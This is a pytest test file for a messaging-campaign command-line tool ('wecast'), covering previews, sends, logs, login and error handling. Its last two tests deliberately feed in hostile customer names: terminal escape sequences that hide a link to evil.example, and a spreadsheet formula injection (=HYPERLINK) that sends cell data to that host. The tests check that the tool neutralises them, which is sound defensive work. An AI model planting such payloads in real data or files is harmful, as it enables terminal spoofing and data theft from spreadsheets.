"""The command line, end to end on the sandbox: preview, run, logs, contacts, and clean errors."""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from engine.cli import main

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    """The demo campaigns and a config in a fresh folder. The demo campaigns pace their sends (5 a second): the
    copies here send as fast as the sandbox takes them, so the commands are tested, not the clock."""
    shutil.copytree(ROOT / "campaigns", tmp_path / "campaigns")
    for path in (tmp_path / "campaigns").glob("*.yaml"):
        text = path.read_text(encoding="utf-8")
        fast = re.sub(r"(?m)^throttle:.*(\n[ \t]+.*)*", "throttle: {per_second: 1000}", text)
        assert fast != text, f"{path.name} has no throttle to speed up"
        path.write_text(fast, encoding="utf-8")
    (tmp_path / "config.yaml").write_text(
        "version: 1\n"
        f"database_url: sqlite:///{tmp_path}/data/wecast.sqlite\n"
        f"campaigns_dir: {tmp_path}/campaigns\n"
        "sending: {throttle: {per_second: 1000}}\n"
        f"sandbox: {{state_file: {tmp_path}/data/sandbox.sqlite}}\n",
        encoding="utf-8",
    )
    return tmp_path


def wecast(workdir: Path, *args: str) -> tuple[int, str, str]:
    runner = CliRunner()
    result = runner.invoke(main, ["-c", str(workdir / "config.yaml"), *args], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def test_preview_json_accounts_for_every_contact(workdir: Path) -> None:
    """`preview --json` lists each recipient with the exact message and each excluded contact with a reason."""
    code, out, _ = wecast(workdir, "preview", "weekly_vip", "--json")
    assert code == 0
    data = json.loads(out)
    counts = data["counts"]
    assert counts["contacts"] == 200
    assert counts["recipients"] == len(data["recipients"]) > 5
    assert counts["recipients"] + counts["excluded"] == 200
    assert all("VIP专享" in r["message"] for r in data["recipients"])
    assert all(e["reason"] and e["category"] for e in data["excluded"])
    assert any(e["category"] == "exclusion" and "勿扰" in e["reason"] for e in data["excluded"])
    assert len(data["next_fires"]) == 5
    assert data["problems"] == []
    assert sum(data["counts"]["by_category"].values()) == counts["excluded"]


def test_preview_csv_has_one_row_per_contact(workdir: Path) -> None:
    """`preview --csv FILE` writes every contact with its decision, reason and message."""
    target = workdir / "preview.csv"
    code, _, _ = wecast(workdir, "preview", "store_opening_hz", "--csv", str(target))
    assert code == 0
    rows = list(csv.DictReader(target.read_text(encoding="utf-8-sig").splitlines()))
    assert len(rows) == 200
    sent = [r for r in rows if r["decision"] == "send"]
    assert sent and all("湖滨店" in r["message"] for r in sent)
    assert all(r["reason"] for r in rows if r["decision"] == "excluded")


def test_run_twice_sends_once_and_logs_every_delivery(workdir: Path) -> None:
    """`run` sends the current slot; a second `run` sends nothing; `log` and `runs` show what happened."""
    code, out, _ = wecast(workdir, "run", "weekly_vip", "--json")
    assert code == 0
    [first] = json.loads(out)
    assert first["status"] == "completed" and first["counts"]["sent"] > 5
    code, out, _ = wecast(workdir, "run", "weekly_vip", "--json")
    [second] = json.loads(out)
    assert second["run_id"] == first["run_id"] and second["counts"] == first["counts"]
    code, out, _ = wecast(workdir, "sandbox", "outbox", "--json", "--limit", "0")
    received = json.loads(out)
    assert len(received) == first["counts"]["sent"]
    assert len({m["contact_id"] for m in received}) == len(received)
    code, out, _ = wecast(workdir, "log", "--status", "sent", "--json", "--limit", "1000")
    assert code == 0 and len(json.loads(out)) == first["counts"]["sent"]
    code, out, _ = wecast(workdir, "runs", "--json")
    assert [r["campaign_id"] for r in json.loads(out)] == ["weekly_vip"]


def test_contacts_list_filters_by_tag_and_field(workdir: Path) -> None:
    """`contacts list` filters by tag and by field after a sync."""
    assert wecast(workdir, "contacts", "sync")[0] == 0
    code, out, _ = wecast(workdir, "contacts", "list", "--tag", "VIP", "--where", "city=上海", "--limit", "0", "--json")
    assert code == 0
    rows = json.loads(out)
    assert rows and all(r["city"] == "上海" and "VIP" in r["tags"] for r in rows)


def test_unknown_campaign_is_one_clear_error_without_traceback(workdir: Path) -> None:
    """A missing campaign exits non-zero with one message on stderr and no traceback."""
    code, out, err = wecast(workdir, "preview", "no_such_campaign")
    assert code == 1
    assert err.startswith("error:") and "no_such_campaign" in err
    assert "Traceback" not in err + out


def test_invalid_campaign_exits_2_naming_file_line_and_field(workdir: Path) -> None:
    """An invalid campaign file makes `run` exit 2 with file:line: field on stderr, and nothing is sent."""
    bad = workdir / "campaigns" / "bad.yaml"
    bad.write_text(
        "name: 坏活动\naudience: {tags_any: [VIP]}\nmessage:\n  template: 'hi'\nthrotle: {per_second: 1}\n",
        encoding="utf-8",
    )
    code, _, err = wecast(workdir, "run", str(bad))
    assert code == 2
    assert f"{bad}:5: throtle: unknown field" in err
    assert not (workdir / "data" / "sandbox.sqlite").exists() or "0 message" in wecast(workdir, "sandbox", "outbox")[1]


def test_config_error_names_file_line_and_field(workdir: Path) -> None:
    """A typo in config.yaml is reported with file, line and field, exit status non-zero."""
    cfg = workdir / "config.yaml"
    cfg.write_text(cfg.read_text(encoding="utf-8") + "sendng: {}\n", encoding="utf-8")
    code, _, err = wecast(workdir, "runs")
    assert code == 1
    assert f"{cfg}:6: sendng: unknown field" in err


def test_pause_cancel_and_resume_a_run_from_the_command_line(workdir: Path) -> None:
    """A paused run sends nothing more until resumed; a cancelled run skips its unsent deliveries."""
    from engine.service import Wecast
    from engine.settings import load_settings
    from engine.spec import find_campaign

    assert wecast(workdir, "contacts", "sync")[0] == 0
    settings = load_settings(workdir / "config.yaml")
    app = Wecast(settings)
    plan_a = app.plan(find_campaign("weekly_vip", settings))
    (workdir / "campaigns" / "fast.yaml").write_text(
        "name: 快速\naudience: {tags_any: [护肤]}\nmessage: {template: '护肤新品到店'}\n"
        "frequency_cap: false\nquiet_hours: false\nthrottle: {per_second: 500}\n",
        encoding="utf-8",
    )
    plan_b = app.plan(find_campaign("fast", settings), run_key="cli-test")
    app.db.dispose()
    assert plan_a.planned > 5 and plan_b.planned > 5
    assert wecast(workdir, "pause", str(plan_a.run_id))[0] == 0
    code, out, _ = wecast(workdir, "run", "--resume", "--json")
    resumed = {r["run_id"]: r for r in json.loads(out)}
    assert plan_a.run_id not in resumed  # paused runs are not resumed by --resume
    assert resumed[plan_b.run_id]["status"] == "completed"
    code, out, _ = wecast(workdir, "cancel", str(plan_a.run_id))
    assert code == 0 and f"{plan_a.planned} unsent deliveries skipped" in out
    code, _, err = wecast(workdir, "resume", str(plan_a.run_id))
    assert code == 1 and "cancelled" in err
    code, out, _ = wecast(
        workdir, "log", "--run", str(plan_a.run_id), "--status", "skipped", "--json", "--limit", "1000"
    )
    assert sum(1 for d in json.loads(out) if d["reason"] == "run cancelled from the command line") == plan_a.planned


def test_a_paused_run_resumes_and_completes(workdir: Path) -> None:
    """`wecast resume RUN` reopens a paused run and sends what is left."""
    from engine.service import Wecast
    from engine.settings import load_settings
    from engine.spec import find_campaign

    assert wecast(workdir, "contacts", "sync")[0] == 0
    settings = load_settings(workdir / "config.yaml")
    app = Wecast(settings)
    plan = app.plan(find_campaign("weekly_vip", settings))
    assert plan.planned > 5
    app.pause_run(plan.run_id)
    app.db.dispose()
    code, out, _ = wecast(workdir, "resume", str(plan.run_id))
    assert code == 0 and "completed" in out and f"sent {plan.planned}" in out


def test_login_shows_the_qr_rejects_a_wrong_code_then_logs_in(workdir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`wecast login` prints the QR and its key, reports a wrong code with the tries left, then logs in."""
    import engine.cli as cli
    from engine.gateways.sandbox import SandboxGateway

    cfg = workdir / "config.yaml"
    cfg.write_text(
        cfg.read_text(encoding="utf-8").replace("sandbox: {", "sandbox: {scan_delay: 0s, "), encoding="utf-8"
    )
    gateways: list[SandboxGateway] = []
    original_scan = SandboxGateway.sandbox_scan

    async def spy_scan(self: SandboxGateway, *, quiet: bool = False) -> Any:
        gateways.append(self)
        return await original_scan(self, quiet=quiet)

    monkeypatch.setattr(SandboxGateway, "sandbox_scan", spy_scan)
    answers = iter(["000000", None])
    asked: list[str] = []

    def fake_prompt(text: str, prompt_suffix: str = ": ") -> str:
        asked.append(text + prompt_suffix)
        answer = next(answers)
        return answer if answer is not None else gateways[-1].sandbox_phone_code() or ""

    monkeypatch.setattr(cli.click, "prompt", fake_prompt)
    code, out, err = wecast(workdir, "login", "--timeout", "30")
    assert code == 0, err
    assert "qrcodeKey:" in out
    assert any(block in out for block in "█▀▄"), "the QR is drawn in the terminal"
    assert "wrong verification code; 2 tries left" in err
    assert "logged in" in out
    assert asked[0] == "verification code shown on the phone: "
    code, out, _ = wecast(workdir, "login")
    assert "already logged in" in out
    # In Chinese the prompt ends in a Chinese colon (it was '手机上显示的验证码: ', click's ASCII one).
    wecast(workdir, "logout")
    answers, asked[:] = iter([None]), []
    code, _, err = wecast(workdir, "--lang", "zh", "login", "--timeout", "30")
    assert code == 0, err
    assert asked == ["手机上显示的验证码："]


def test_run_during_quiet_hours_says_so_and_leaves_sends_pending(workdir: Path) -> None:
    """Inside the campaign's quiet hours, `run --no-wait` explains the wait and sends nothing yet."""
    from datetime import datetime, timedelta
    from zoneinfo import ZoneInfo

    now = datetime.now(ZoneInfo("Asia/Shanghai"))
    start, end = (now - timedelta(hours=1)).strftime("%H:%M"), (now + timedelta(hours=1)).strftime("%H:%M")
    (workdir / "campaigns" / "night.yaml").write_text(
        "name: 夜间测试\naudience: {tags_any: [VIP]}\nmessage: {template: '晚安'}\nfrequency_cap: false\n"
        f'quiet_hours: {{start: "{start}", end: "{end}"}}\nthrottle: {{per_second: 500}}\n',
        encoding="utf-8",
    )
    code, out, err = wecast(workdir, "run", "night", "--no-wait", "--json")
    assert code == 0, err
    assert f"quiet hours {start}–{end}" in err
    [summary] = json.loads(out)
    assert summary["status"] == "running" and summary["counts"].get("sent", 0) == 0
    assert summary["counts"]["pending"] > 5


def test_names_with_brackets_and_backslashes_print_exactly(workdir: Path) -> None:
    """Text from users (a campaign name, a template) prints exactly as written, backslashes and [brackets]
    included: rich's own escape, not a hand-made one that let `\\[b]` through as bold markup."""
    path = workdir / "campaigns" / "odd.yaml"
    path.write_text(
        "name: 'C:\\[b]会员[/]日'\naudience: {tags_any: [VIP]}\nmessage: {template: '路径 C:\\[red]x[/red]'}\n"
        "frequency_cap: false\nquiet_hours: false\n",
        encoding="utf-8",
    )
    code, out, err = wecast(workdir, "validate", str(path))
    assert code == 0, err
    assert "(odd: C:\\[b]会员[/]日)" in out
    code, out, _ = wecast(workdir, "preview", str(path), "--show", "1")
    assert code == 0 and "C:\\[b]会员[/]日" in out and "路径 C:\\[red]x[/red]" in out


def test_preview_shows_a_spring_forward_fire_at_the_time_it_really_fires(workdir: Path) -> None:
    """A 02:30 America/New_York cron on the Sundays of March: on the second one the clocks jump from 02:00 to
    03:00, and the schedule fires at 03:30 EDT. The preview showed `02:30 Sun`, a time that never happened that
    day (and --json an offset of -05:00 in summer); now each fire time is the wall time it fires at."""
    from datetime import UTC, datetime
    from zoneinfo import ZoneInfo

    new_york = ZoneInfo("America/New_York")
    path = workdir / "campaigns" / "nyc.yaml"
    path.write_text(
        "name: 纽约早安\ntimezone: America/New_York\nschedule: {cron: '30 2 * 3 0'}\naudience: {tags_any: [VIP]}\n"
        "message: {template: 早安}\nfrequency_cap: false\nquiet_hours: false\n",
        encoding="utf-8",
    )
    code, out, err = wecast(workdir, "preview", str(path), "--show", "1")
    assert code == 0, err
    shown = re.findall(r"(\d{4}-\d\d-\d\d) (\d\d:\d\d) Sun", " ".join(out.split()))
    assert len(shown) == 5, out  # five Sundays of March: one of them the second, when the clocks go forward
    for day, hour in shown:
        local = datetime.fromisoformat(f"{day}T{hour}").replace(tzinfo=new_york)
        spring = local.astimezone(UTC).astimezone(new_york).replace(tzinfo=None) != local.replace(tzinfo=None)
        assert not spring, f"{day} {hour} does not exist in New York"
        assert hour == ("03:30" if 8 <= local.day <= 14 else "02:30"), (day, hour)
    code, out, err = wecast(workdir, "preview", str(path), "--json")
    assert code == 0, err
    fires = [datetime.fromisoformat(t) for t in json.loads(out)["next_fires"]]
    assert [f.utcoffset() == f.astimezone(new_york).utcoffset() for f in fires] == [True] * 5


def test_preview_json_is_the_api_preview(workdir: Path) -> None:
    """`wecast preview --json` and GET /api/v1/campaigns/{id}/preview answer in one shape with the same content
    (one model, engine.views.PreviewView): the same keys, counts, recipients, exclusions and next fires."""
    from web_harness import LiveServer

    from engine.settings import load_settings

    code, out, _ = wecast(workdir, "preview", "weekly_vip", "--json")
    assert code == 0
    cli = json.loads(out)
    with LiveServer(load_settings(workdir / "config.yaml"), scheduler=False) as live:
        api = live.client.get("/api/v1/campaigns/weekly_vip/preview", params={"sample": 500}).json()
    assert set(api) == set(cli)
    for key in set(cli) - {"now"}:
        assert api[key] == cli[key], key


def test_run_ids_and_limits_out_of_range_are_usage_errors_on_both_databases(tmp_path: Path, db_url: str) -> None:
    """`wecast pause/log --run` with a run id past the largest the database holds, and a negative --limit, are
    usage errors (exit 2) naming the option, not internal errors (PostgreSQL refused the query: exit 70); the
    largest id is looked up as usual."""
    from storage.models import MAX_ID

    (tmp_path / "campaigns").mkdir()
    (tmp_path / "config.yaml").write_text(
        f"version: 1\ndatabase_url: '{db_url}'\ncampaigns_dir: {tmp_path}/campaigns\n"
        f"sandbox: {{state_file: {tmp_path}/sandbox.sqlite}}\n",
        encoding="utf-8",
    )
    for args in (["pause", str(MAX_ID + 1)], ["log", "--run", str(MAX_ID + 1)], ["log", "--limit", "-1"]):
        code, _, err = wecast(tmp_path, "--lang", "en", *args)
        assert code == 2, (args, err)
        assert "not in the range" in err and "internal error" not in err, err
    code, _, err = wecast(tmp_path, "--lang", "en", "pause", str(MAX_ID))
    assert code == 1 and f"no run {MAX_ID}" in err, err
    code, _, err = wecast(tmp_path, "--lang", "en", "log", "--run", str(MAX_ID))
    assert code == 0, err


def test_control_characters_from_customers_are_shown_not_obeyed(workdir: Path) -> None:
    """A customer whose nickname carries terminal escape sequences (clear the screen, a hidden link, a carriage
    return that overwrites the line) is listed with those characters shown as \\x1b, \\r: nothing wecast prints
    from customer data reaches the terminal as a control character."""
    name = "王\x1b[2J\x1b]8;;https://evil.example\x1b\\点我\x1b]8;;\x1b\\\rforged"
    code, out, err = wecast(workdir, "sandbox", "event", "add-contact", "--name", name)
    assert code == 0, err
    assert "\x1b" not in out and "\r" not in out
    assert wecast(workdir, "contacts", "sync")[0] == 0
    code, out, err = wecast(workdir, "contacts", "list", "--limit", "0")
    assert code == 0, err
    assert "\x1b" not in out and "\r" not in out
    assert "王\\x1b[2J\\x1b]8;;htt" in out  # (the table cuts the rest to its column)


def test_the_preview_csv_never_hands_a_spreadsheet_a_formula(workdir: Path) -> None:
    """A customer nicknamed `=HYPERLINK(…)` (or `+`, `-`, `@` first) is written to the preview's CSV with a leading
    `'`, which Excel shows as the text instead of running it; other names are written as they are."""
    import io

    name = '=HYPERLINK("https://evil.example/?"&A1,"点我")'
    assert wecast(workdir, "sandbox", "event", "add-contact", "--name", name)[0] == 0
    assert wecast(workdir, "sandbox", "event", "add-contact", "--name", "@SUM(1+1)")[0] == 0
    assert wecast(workdir, "contacts", "sync")[0] == 0
    target = workdir / "preview.csv"
    code, _, err = wecast(workdir, "preview", "weekly_vip", "--csv", str(target))
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    names = {r["name"] for r in rows}
    assert "'" + name in names and "'@SUM(1+1)" in names and name not in names
    assert not any(r[column].startswith(("=", "+", "-", "@")) for r in rows for column in r)
    assert "韩一诺" in names  # an ordinary name, untouched
